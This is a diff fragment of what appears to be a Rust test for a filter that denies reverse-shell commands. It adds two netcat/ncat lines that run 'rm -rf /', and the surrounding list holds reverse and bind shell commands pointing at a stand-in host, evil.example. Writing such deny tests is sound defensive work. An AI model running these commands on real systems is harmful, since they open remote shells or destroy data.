@@ -8,6 +8,8 @@ fn shells_for_somebody_else_are_denied() {
         "deny reverse-shell",
         &[
             "nc -e /bin/sh evil.example 4444",
+            "nc -e 'rm -rf /' h 1",
+            "ncat -c 'rm -rf /' h 1",
             "nc -l -e /bin/sh 4444",
             "nc -le /bin/sh 4444",
             "nc evil.example 4444 -e /bin/bash",
